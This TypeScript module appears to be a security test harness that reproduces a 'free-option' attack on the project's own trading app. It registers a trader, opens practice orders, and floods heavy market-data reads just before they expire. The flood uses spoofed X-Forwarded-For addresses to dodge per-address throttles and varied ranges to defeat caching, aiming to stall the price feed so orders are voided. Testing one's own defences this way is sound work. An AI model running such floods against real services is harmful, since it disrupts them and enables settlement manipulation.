import http from 'node:http';
import { randomBytes, randomUUID } from 'node:crypto';
import { DEFAULT_TERMS_VERSION } from '@shared/accounts/model';
import { patientFetch } from '../../scripts/patient-fetch';

/**
 * The free-option attack of issue 33, as a tool: a trader holds open orders and, a few seconds
 * before they expire, floods the public market endpoints with heavy anonymous reads over many
 * keep-alive connections, hoping to stall the feed so the orders settle `void FEED_STALE`.
 * `flood` sends the reads; `tickGaps` reads the recorded tape afterwards and gives the largest
 * gap between ticks; `openOrders` and `orderOutcomes` hold the trader's side.
 */

export interface FloodOptions {
  base: string;
  /** Keep-alive connections, each sending its share of the requests one after another. */
  connections: number;
  /** Requests in all, alternating the heavy candles and ticks reads. */
  requests: number;
  product: string;
  /**
   * Each connection claims an address of its own (X-Forwarded-For, believed from loopback):
   * many attackers, so that per-address throttles do not bite and the feed's isolation is what
   * is tested.
   */
  spread?: boolean;
  /** Stop sending new requests after this long (ms); what is under way is awaited. */
  maxMs?: number;
  /**
   * Each request asks for another range (candles before another minute, ticks from another
   * second), so no cache or coalescing of identical requests can answer it: every one costs the
   * database a read. Without it, every request is one of the review's two.
   */
  vary?: boolean;
}

export interface FloodResult {
  sent: number;
  /** Answers by HTTP status; `error` counts requests that got none. */
  statuses: Record<string, number>;
  ms: number;
}

/** The two heavy reads of the review's report, in turn; the `n`th of a varied flood. */
export function heavyPath(product: string, n: number, vary = false): string {
  const back = vary ? Math.floor(n / 2) + 1 : 0;
  if (n % 2 === 0)
    return `/api/market/candles?product=${product}&interval=1m&limit=1000${vary ? `&before=${Date.now() - back * 60_000}` : ''}`;
  // Varied: a window just under the hour a read may span, starting a second later each time.
  return `/api/market/ticks?product=${product}&from=${vary ? Date.now() - 3_500_000 + back * 1000 : 0}&limit=1000`;
}

function get(
  agent: http.Agent,
  url: URL,
  headers: Record<string, string>,
): Promise<number | 'error'> {
  return new Promise((resolve) => {
    const req = http.get(url, { agent, headers, timeout: 60_000 }, (res) => {
      res.resume();
      res.on('end', () => resolve(res.statusCode ?? 'error'));
      res.on('error', () => resolve('error'));
    });
    req.on('timeout', () => req.destroy());
    req.on('error', () => resolve('error'));
  });
}

/** Sends the flood and waits for every answer. */
export async function flood(o: FloodOptions): Promise<FloodResult> {
  const agent = new http.Agent({ keepAlive: true, maxSockets: o.connections });
  const statuses: Record<string, number> = {};
  const started = Date.now();
  let next = 0;
  const lane = async (i: number) => {
    const headers: Record<string, string> = o.spread
      ? { 'x-forwarded-for': `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}` }
      : {};
    while (next < o.requests && (o.maxMs === undefined || Date.now() - started < o.maxMs)) {
      const n = next++;
      const status = await get(agent, new URL(heavyPath(o.product, n, o.vary), o.base), headers);
      statuses[status] = (statuses[status] ?? 0) + 1;
    }
  };
  await Promise.all(Array.from({ length: o.connections }, (_, i) => lane(i)));
  agent.destroy();
  return { sent: next, statuses, ms: Date.now() - started };
}

export interface TickGaps {
  /** Ticks recorded in the window. */
  ticks: number;
  /** The largest gap between consecutive ticks (ms), counting the window's edges' neighbours. */
  largestMs: number;
  /** When the largest gap began (epoch ms). */
  at: number;
}

/** The recorded tape of `product` from `from` to `to`, paged through the public tape endpoint. */
export async function tapeTimes(
  base: string,
  product: string,
  from: number,
  to: number,
): Promise<number[]> {
  const times: number[] = [];
  let after: number | undefined;
  // The reader is not the attacker: an address of its own (believed from loopback), and it waits
  // out a throttle or a busy server (a remote deployment ignores the address) rather than fail.
  const get = patientFetch();
  const from_ = { 'x-forwarded-for': `198.51.100.${1 + (randomBytes(1)[0]! % 250)}` };
  for (;;) {
    const q = new URLSearchParams({ product, from: String(from), to: String(to), limit: '1000' });
    if (after !== undefined) q.set('after', String(after));
    const res = await get(`${base}/api/market/ticks?${q}`, { headers: from_ });
    if (!res.ok) throw new Error(`tape read: HTTP ${res.status}`);
    const page = (await res.json()) as { seq: number; ts: number }[];
    times.push(...page.map((t) => t.ts));
    if (page.length < 1000) return times;
    after = page[page.length - 1]!.seq;
  }
}

/** The largest gap between recorded ticks of `product` over [from, to]. */
export async function tickGaps(
  base: string,
  product: string,
  from: number,
  to: number,
): Promise<TickGaps> {
  // A little either side, so a silence across the window's edge counts in full; a silence that
  // runs past the read (no tick after `to`, or none before `from`) counts up to the window's edge.
  const read = await tapeTimes(base, product, from - 2000, to + 2000);
  const times = [
    ...(read.length && read[0]! <= from ? [] : [from]),
    ...read,
    ...(read.length && read[read.length - 1]! >= to ? [] : [to]),
  ];
  let largestMs = 0;
  let at = from;
  for (let i = 1; i < times.length; i++) {
    const gap = times[i]! - times[i - 1]!;
    if (times[i]! >= from && times[i - 1]! <= to && gap > largestMs) {
      largestMs = gap;
      at = times[i - 1]!;
    }
  }
  return { ticks: read.filter((t) => t >= from && t <= to).length, largestMs, at };
}

async function must(res: Promise<Response>, what: string): Promise<Response> {
  const r = await res;
  if (!r.ok) throw new Error(`${what}: HTTP ${r.status} ${await r.text()}`);
  return r;
}

const json = (body: unknown, headers: Record<string, string> = {}) => ({
  method: 'POST',
  headers: { 'content-type': 'application/json', ...headers },
  body: JSON.stringify(body),
});

/**
 * Waits until `product`'s last tick is under a second old (the feed runs; a freshly started
 * simulator may still be drawing its history), or fails after `ms`.
 */
export async function untilFresh(base: string, product: string, ms = 120_000): Promise<void> {
  const deadline = Date.now() + ms;
  for (;;) {
    const res = await fetch(`${base}/api/market/products/${product}`);
    const last = res.ok ? ((await res.json()) as { last: { ts: number } | null }).last : null;
    if (last && Date.now() - last.ts < 1000) return;
    if (Date.now() > deadline) throw new Error(`${product} has no fresh tick after ${ms} ms`);
    await new Promise((r) => setTimeout(r, 200));
  }
}

/** Registers a trader with `invite` and signs in: the bearer token. */
export async function newTrader(base: string, invite: string): Promise<string> {
  const account = `fl${randomBytes(5).toString('hex')}`;
  const password = 'flood-pass-1';
  // Registration and sign-in are throttled per address: the trader has one of its own.
  const from = { 'x-forwarded-for': `192.0.2.${1 + (randomBytes(1)[0]! % 250)}` };
  await must(
    fetch(
      `${base}/api/auth/register`,
      json(
        {
          account,
          phone: '+15550100',
          inviteCode: invite,
          password,
          passwordConfirm: password,
          tradePassword: '123456',
          tradePasswordConfirm: '123456',
          acceptTerms: DEFAULT_TERMS_VERSION,
        },
        from,
      ),
    ),
    'register',
  );
  const login = await must(
    fetch(`${base}/api/auth/login`, json({ account, password }, from)),
    'login',
  );
  return ((await login.json()) as { token: string }).token;
}

/**
 * One `POST /api/orders` as the app sends it (a fresh Idempotency-Key), up on BTCUSDT for 30 s
 * unless `order` says otherwise; the answer as it comes.
 */
export function postOrder(
  base: string,
  token: string,
  order: {
    amount: number;
    mode?: 'practice' | 'real';
    direction?: 'up' | 'down';
    duration?: number;
  },
  signal?: AbortSignal,
): Promise<Response> {
  return fetch(`${base}/api/orders`, {
    method: 'POST',
    headers: {
      authorization: `Bearer ${token}`,
      'content-type': 'application/json',
      'idempotency-key': randomUUID(),
    },
    body: JSON.stringify({ productId: 'BTCUSDT', direction: 'up', duration: 30, ...order }),
    signal,
  });
}

/** Places `count` practice orders of `duration` seconds: their ids and when the last expires. */
export async function openOrders(
  base: string,
  token: string,
  o: { product: string; count: number; duration: number },
): Promise<{ ids: string[]; expiresAt: number }> {
  const ids: string[] = [];
  let expiresAt = 0;
  for (let i = 0; i < o.count; i++) {
    const res = await must(
      fetch(
        `${base}/api/orders`,
        json(
          {
            productId: o.product,
            direction: i % 2 ? 'down' : 'up',
            amount: 1000,
            duration: o.duration,
            mode: 'practice',
          },
          { authorization: `Bearer ${token}` },
        ),
      ),
      'order',
    );
    const order = (await res.json()) as { id: string; expiresAt: number };
    ids.push(order.id);
    expiresAt = Math.max(expiresAt, order.expiresAt);
  }
  return { ids, expiresAt };
}

/** The status (and void reason) of each order, once none is open any more (or `ms` passed). */
export async function orderOutcomes(
  base: string,
  token: string,
  ids: string[],
  ms = 60_000,
): Promise<Record<string, string>> {
  const deadline = Date.now() + ms;
  for (;;) {
    const out: Record<string, string> = {};
    for (const id of ids) {
      const res = await must(
        fetch(`${base}/api/orders/${id}`, { headers: { authorization: `Bearer ${token}` } }),
        `order ${id}`,
      );
      const o = (await res.json()) as { status: string; voidReason?: string | null };
      out[id] = o.voidReason ? `${o.status} ${o.voidReason}` : o.status;
    }
    if (!Object.values(out).includes('open') || Date.now() > deadline) return out;
    await new Promise((r) => setTimeout(r, 500));
  }
}

/** How many orders ended in each outcome. */
export function tally(outcomes: Record<string, string>): Record<string, number> {
  const t: Record<string, number> = {};
  for (const s of Object.values(outcomes)) t[s] = (t[s] ?? 0) + 1;
  return t;
}

export interface AttackOptions extends Omit<FloodOptions, 'base'> {
  /** Practice orders of 30 s the trader holds through the flood. */
  orders: number;
  /** The flood starts this long before the orders expire (ms). */
  leadMs: number;
}

export interface AttackResult {
  flood: FloodResult;
  gaps: TickGaps;
  /** How many orders ended in each outcome (`void FEED_STALE`, `won`, …). */
  outcomes: Record<string, number>;
}

/**
 * The whole attack: a trader (registered with `invite`) opens practice orders, the flood starts
 * `leadMs` before they expire, and the tape and the outcomes are read once every order is closed.
 */
export async function freeOptionAttack(
  base: string,
  invite: string,
  o: AttackOptions,
): Promise<AttackResult> {
  await untilFresh(base, o.product);
  const token = await newTrader(base, invite);
  const { ids, expiresAt } = await openOrders(base, token, {
    product: o.product,
    count: o.orders,
    duration: 30,
  });
  await new Promise((r) => setTimeout(r, Math.max(0, expiresAt - o.leadMs - Date.now())));
  const from = Date.now();
  const result = await flood({ ...o, base });
  const outcomes = tally(await orderOutcomes(base, token, ids, 120_000));
  const to = Math.max(Date.now(), expiresAt + 1000);
  return { flood: result, gaps: await tickGaps(base, o.product, from, to), outcomes };
}
